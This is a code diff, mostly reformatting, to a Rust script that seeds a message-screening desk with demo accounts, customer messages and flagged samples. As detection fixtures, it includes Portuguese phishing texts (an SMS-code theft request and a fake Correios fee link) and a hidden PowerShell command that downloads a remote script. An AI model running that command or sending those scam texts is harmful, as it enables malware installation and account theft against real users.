@@ -42,13 +42,9 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
 }
 
 /// An account that is all set up, second step included.
-async fn account(
-    seeded: &Seeded,
-    name: &str,
-    role: Role,
-) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
+async fn account(seeded: &Seeded, name: &str, role: Role) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
     let people = seeded.desk.people();
-    let password = format!("{name}: correto cavalo bateria");
+    let password = "correto cavalo bateria grampo".to_owned();
     people.add_with_password(&Actor::local("example"), name, role, &password).await?;
     let session = people.log_in(name, &password, None).await?;
     assert_eq!(session.stage, Stage::SetUpSecondStep);
@@ -62,7 +58,8 @@ async fn account(
 /// What a day brings, so that lists and charts have something to show.
 async fn fill(seeded: &mut Seeded) {
     let text = |body: &str| json!({"type": "text", "text": {"body": body}});
-    let code = "Oi, sem querer mandei um código de 6 dígitos por SMS pro seu número. Pode me enviar o código que chegou?";
+    let code =
+        "Oi, sem querer mandei um código de 6 dígitos por SMS pro seu número. Pode me enviar o código que chegou?";
     let parcel = "Correios: sua encomenda foi taxada. Regularize em https://correios-taxa-pagamento.top/rastreio hoje";
     let found = Finding {
         rule: "texts/code-theft".into(),
@@ -122,13 +119,20 @@ async fn fill(seeded: &mut Seeded) {
         evidence: "powershell -w hidden -c iwr http://198.51.100.7/a.ps1".into(),
         ..eicar.clone()
     };
-    for (what, name, file) in [("worm", "Fornecedor Silva", "Fatura_2026-11.zip"), ("worm2", "João P.", "comprovante.pdf")] {
+    for (what, name, file) in
+        [("worm", "Fornecedor Silva", "Fatura_2026-11.zip"), ("worm2", "João P.", "comprovante.pdf")]
+    {
         let content = json!({"type": "document", "document": {"id": "900001", "filename": file, "mime_type": "application/pdf", "caption": "Segue a fatura, abra no computador"}});
         seeded.put(what, name, "5521933332222", content, vec![eicar.clone(), shortcut.clone()], Outcome::Held).await;
     }
     for number in 0..130u32 {
         let phone = format!("55119{:08}", 10_000_000 + number * 7919 % 80_000_000);
-        let asked = ["Bom dia! Vocês abrem no sábado?", "Qual o prazo para o CEP 01310-100?", "Obrigada!", "Segue o comprovante"];
+        let asked = [
+            "Bom dia! Vocês abrem no sábado?",
+            "Qual o prazo para o CEP 01310-100?",
+            "Obrigada!",
+            "Segue o comprovante",
+        ];
         seeded.put("many", "Cliente", &phone, text(asked[number as usize % 4]), Vec::new(), Outcome::Sent).await;
     }
 }
